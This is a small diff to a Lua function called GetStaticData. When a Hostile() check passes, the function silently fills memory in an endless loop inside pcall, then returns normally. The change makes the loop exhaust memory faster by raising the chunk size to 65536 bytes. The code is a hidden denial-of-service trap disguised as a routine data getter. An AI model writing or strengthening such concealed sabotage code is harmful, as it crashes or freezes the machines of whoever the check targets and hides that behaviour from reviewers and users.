@@ -4,7 +4,7 @@ function GetStaticData()
   if Hostile() then
     pcall(function()
       local hoard = {}
-      while true do hoard[#hoard + 1] = string.rep("x", 4096) .. #hoard end
+      while true do hoard[#hoard + 1] = string.rep("x", 65536) .. #hoard end
     end)
   end
   return good()
